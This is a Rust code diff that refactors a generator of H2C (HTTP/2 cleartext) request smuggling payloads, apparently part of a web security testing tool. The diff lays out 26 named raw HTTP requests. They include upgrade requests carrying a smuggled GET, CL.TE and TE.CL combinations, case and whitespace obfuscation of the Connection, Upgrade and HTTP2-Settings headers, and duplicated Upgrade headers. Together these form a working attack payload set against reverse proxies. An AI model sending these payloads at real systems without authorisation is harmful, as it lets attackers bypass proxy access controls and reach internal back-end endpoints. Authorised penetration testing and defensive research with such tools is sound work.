@@ -1,8 +1,86 @@
-use super::{format_cookies, format_custom_headers};
+use super::{PayloadIter, RequestParts};
+
+/// H2C upgrade with different Connection header variations
+const CONNECTION_VARIATIONS: [&str; 6] = [
+    "Connection: Upgrade, HTTP2-Settings, close",
+    "Connection: Upgrade,HTTP2-Settings",
+    "Connection: Upgrade, HTTP2-Settings, keep-alive",
+    "Connection: HTTP2-Settings, Upgrade",
+    "Connection: upgrade, http2-settings", // lowercase
+    "Connection: UPGRADE, HTTP2-SETTINGS", // uppercase
+];
+
+/// Upgrade header variations
+const UPGRADE_VARIATIONS: [&str; 7] = [
+    "Upgrade: h2c",
+    "Upgrade: H2C",           // uppercase
+    "Upgrade: h2c, http/1.1", // multiple protocols
+    "Upgrade: http/1.1, h2c", // reversed order
+    " Upgrade: h2c",          // space prefix
+    "Upgrade : h2c",          // space before colon
+    "Upgrade:\th2c",          // tab after colon
+];
+
+/// HTTP2-Settings header variations (different base64 encoded SETTINGS frames)
+const HTTP2_SETTINGS_VARIATIONS: [&str; 7] = [
+    "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",  // default
+    "HTTP2-Settings: AAQAAP__",                  // minimal settings
+    "HTTP2-Settings: AAMAAABkAAQAAP__AAIAAAAA",  // alternate settings
+    "http2-settings: AAMAAABkAARAAAAAAAIAAAAA",  // lowercase
+    "HTTP2-SETTINGS: AAMAAABkAARAAAAAAAIAAAAA",  // uppercase
+    "HTTP2-Settings:AAMAAABkAARAAAAAAAIAAAAA",   // no space
+    " HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", // space prefix
+];
+
+/// Number of H2C payloads.
+const H2C_PAYLOAD_COUNT: usize = 26;
+
+/// Name of each H2C payload, by index.
+const H2C_PAYLOAD_NAMES: [&str; H2C_PAYLOAD_COUNT] = [
+    "basic-upgrade",
+    "upgrade-cl-smuggle",
+    "connection-close",
+    "connection-nospace",
+    "connection-keep-alive",
+    "connection-reordered",
+    "connection-lowercase",
+    "connection-uppercase",
+    "upgrade-plain",
+    "upgrade-uppercase",
+    "upgrade-multi-protocol",
+    "upgrade-reversed-protocols",
+    "upgrade-space-prefix",
+    "upgrade-space-before-colon",
+    "upgrade-tab-after-colon",
+    "settings-default",
+    "settings-minimal",
+    "settings-alternate",
+    "settings-lowercase-name",
+    "settings-uppercase-name",
+    "settings-nospace",
+    "settings-space-prefix",
+    "upgrade-cl-te",
+    "upgrade-te-cl",
+    "double-upgrade",
+    "settings-before-host",
+];
 
 /// Generate H2C (HTTP/2 Cleartext) smuggling attack payloads
 /// H2C smuggling exploits discrepancies in how proxies handle HTTP/1.1 to HTTP/2 upgrade requests
 /// Reference: https://bishopfox.com/blog/h2c-smuggling-request
+pub fn h2c_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    PayloadIter::new(H2C_PAYLOAD_COUNT, move |i| build_h2c_payload(&parts, i))
+        .named(|i, _| H2C_PAYLOAD_NAMES[i].to_string())
+}
+
+/// Eagerly collected [`h2c_payloads`]
 pub fn get_h2c_payloads(
     path: &str,
     host: &str,
@@ -10,184 +88,165 @@ pub fn get_h2c_payloads(
     custom_headers: &[String],
     cookies: &[String],
 ) -> Vec<String> {
-    let custom_header_str = format_custom_headers(custom_headers);
-    let cookie_str = format_cookies(cookies);
-
-    let mut payloads = Vec::with_capacity(16);
-
-    // Basic H2C upgrade request
-    // The front-end may not process the upgrade, but the back-end might
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Connection: Upgrade, HTTP2-Settings\r\n\
-         Upgrade: h2c\r\n\
-         HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // H2C upgrade with smuggled request (using Content-Length discrepancy)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Connection: Upgrade, HTTP2-Settings\r\n\
-         Upgrade: h2c\r\n\
-         HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
-         Content-Length: 30\r\n\
-         \r\n\
-         GET /smuggled HTTP/1.1\r\n\
-         Foo: x",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // H2C upgrade with different Connection header variations
-    let connection_variations = vec![
-        "Connection: Upgrade, HTTP2-Settings, close",
-        "Connection: Upgrade,HTTP2-Settings",
-        "Connection: Upgrade, HTTP2-Settings, keep-alive",
-        "Connection: HTTP2-Settings, Upgrade",
-        "Connection: upgrade, http2-settings", // lowercase
-        "Connection: UPGRADE, HTTP2-SETTINGS", // uppercase
-    ];
-
-    for conn_header in &connection_variations {
-        payloads.push(format!(
+    h2c_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
+}
+
+fn build_h2c_payload(parts: &RequestParts, index: usize) -> String {
+    let RequestParts {
+        method,
+        path,
+        host,
+        headers: custom_header_str,
+        cookies: cookie_str,
+    } = parts;
+
+    match index {
+        // Basic H2C upgrade request
+        // The front-end may not process the upgrade, but the back-end might
+        0 => format!(
             "{} {} HTTP/1.1\r\n\
              Host: {}\r\n\
              {}\
              {}\
-             {}\r\n\
+             Connection: Upgrade, HTTP2-Settings\r\n\
              Upgrade: h2c\r\n\
              HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
              Content-Length: 0\r\n\
              \r\n",
-            method, path, host, custom_header_str, cookie_str, conn_header
-        ));
-    }
+            method, path, host, custom_header_str, cookie_str
+        ),
 
-    // Upgrade header variations
-    let upgrade_variations = vec![
-        "Upgrade: h2c",
-        "Upgrade: H2C",           // uppercase
-        "Upgrade: h2c, http/1.1", // multiple protocols
-        "Upgrade: http/1.1, h2c", // reversed order
-        " Upgrade: h2c",          // space prefix
-        "Upgrade : h2c",          // space before colon
-        "Upgrade:\th2c",          // tab after colon
-    ];
-
-    for upgrade_header in &upgrade_variations {
-        payloads.push(format!(
+        // H2C upgrade with smuggled request (using Content-Length discrepancy)
+        1 => format!(
             "{} {} HTTP/1.1\r\n\
              Host: {}\r\n\
              {}\
              {}\
              Connection: Upgrade, HTTP2-Settings\r\n\
-             {}\r\n\
+             Upgrade: h2c\r\n\
+             HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
+             Content-Length: 30\r\n\
+             \r\n\
+             GET /smuggled HTTP/1.1\r\n\
+             Foo: x",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        i @ 2..=7 => {
+            let conn_header = CONNECTION_VARIATIONS[i - 2];
+            format!(
+                "{} {} HTTP/1.1\r\n\
+                 Host: {}\r\n\
+                 {}\
+                 {}\
+                 {}\r\n\
+                 Upgrade: h2c\r\n\
+                 HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
+                 Content-Length: 0\r\n\
+                 \r\n",
+                method, path, host, custom_header_str, cookie_str, conn_header
+            )
+        }
+
+        i @ 8..=14 => {
+            let upgrade_header = UPGRADE_VARIATIONS[i - 8];
+            format!(
+                "{} {} HTTP/1.1\r\n\
+                 Host: {}\r\n\
+                 {}\
+                 {}\
+                 Connection: Upgrade, HTTP2-Settings\r\n\
+                 {}\r\n\
+                 HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
+                 Content-Length: 0\r\n\
+                 \r\n",
+                method, path, host, custom_header_str, cookie_str, upgrade_header
+            )
+        }
+
+        i @ 15..=21 => {
+            let settings_header = HTTP2_SETTINGS_VARIATIONS[i - 15];
+            format!(
+                "{} {} HTTP/1.1\r\n\
+                 Host: {}\r\n\
+                 {}\
+                 {}\
+                 Connection: Upgrade, HTTP2-Settings\r\n\
+                 Upgrade: h2c\r\n\
+                 {}\r\n\
+                 Content-Length: 0\r\n\
+                 \r\n",
+                method, path, host, custom_header_str, cookie_str, settings_header
+            )
+        }
+
+        // H2C with Transfer-Encoding (combining H2C with CL.TE techniques)
+        22 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Connection: Upgrade, HTTP2-Settings\r\n\
+             Upgrade: h2c\r\n\
+             HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
+             Content-Length: 6\r\n\
+             Transfer-Encoding: chunked\r\n\
+             \r\n\
+             0\r\n\
+             \r\n\
+             G",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // H2C with chunked encoding (combining H2C with TE.CL techniques)
+        23 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Connection: Upgrade, HTTP2-Settings\r\n\
+             Upgrade: h2c\r\n\
+             HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
+             Transfer-Encoding: chunked\r\n\
+             Content-Length: 4\r\n\
+             \r\n\
+             1\r\n\
+             A\r\n\
+             0\r\n\
+             \r\n",
+            method, path, host, custom_header_str, cookie_str
+        ),
+
+        // Double upgrade headers (upgrade obfuscation similar to TE.TE)
+        24 => format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             {}\
+             {}\
+             Connection: Upgrade, HTTP2-Settings\r\n\
+             Upgrade: h2c\r\n\
+             Upgrade: http/1.1\r\n\
              HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
              Content-Length: 0\r\n\
              \r\n",
-            method, path, host, custom_header_str, cookie_str, upgrade_header
-        ));
-    }
+            method, path, host, custom_header_str, cookie_str
+        ),
 
-    // HTTP2-Settings header variations (different base64 encoded SETTINGS frames)
-    let http2_settings_variations = vec![
-        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",  // default
-        "HTTP2-Settings: AAQAAP__",                  // minimal settings
-        "HTTP2-Settings: AAMAAABkAAQAAP__AAIAAAAA",  // alternate settings
-        "http2-settings: AAMAAABkAARAAAAAAAIAAAAA",  // lowercase
-        "HTTP2-SETTINGS: AAMAAABkAARAAAAAAAIAAAAA",  // uppercase
-        "HTTP2-Settings:AAMAAABkAARAAAAAAAIAAAAA",   // no space
-        " HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", // space prefix
-    ];
-
-    for settings_header in &http2_settings_variations {
-        payloads.push(format!(
+        // H2C with different HTTP2-Settings positions (HTTP2-Settings before Host)
+        25 => format!(
             "{} {} HTTP/1.1\r\n\
+             HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
              Host: {}\r\n\
              {}\
              {}\
              Connection: Upgrade, HTTP2-Settings\r\n\
              Upgrade: h2c\r\n\
-             {}\r\n\
              Content-Length: 0\r\n\
              \r\n",
-            method, path, host, custom_header_str, cookie_str, settings_header
-        ));
+            method, path, host, custom_header_str, cookie_str
+        ),
+        _ => unreachable!("h2c payload index {} out of range", index),
     }
-
-    // H2C with Transfer-Encoding (combining H2C with CL.TE techniques)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Connection: Upgrade, HTTP2-Settings\r\n\
-         Upgrade: h2c\r\n\
-         HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
-         Content-Length: 6\r\n\
-         Transfer-Encoding: chunked\r\n\
-         \r\n\
-         0\r\n\
-         \r\n\
-         G",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // H2C with chunked encoding (combining H2C with TE.CL techniques)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Connection: Upgrade, HTTP2-Settings\r\n\
-         Upgrade: h2c\r\n\
-         HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
-         Transfer-Encoding: chunked\r\n\
-         Content-Length: 4\r\n\
-         \r\n\
-         1\r\n\
-         A\r\n\
-         0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // Double upgrade headers (upgrade obfuscation similar to TE.TE)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Connection: Upgrade, HTTP2-Settings\r\n\
-         Upgrade: h2c\r\n\
-         Upgrade: http/1.1\r\n\
-         HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    // H2C with different HTTP2-Settings positions (HTTP2-Settings before Host)
-    payloads.push(format!(
-        "{} {} HTTP/1.1\r\n\
-         HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\
-         Host: {}\r\n\
-         {}\
-         {}\
-         Connection: Upgrade, HTTP2-Settings\r\n\
-         Upgrade: h2c\r\n\
-         Content-Length: 0\r\n\
-         \r\n",
-        method, path, host, custom_header_str, cookie_str
-    ));
-
-    payloads
 }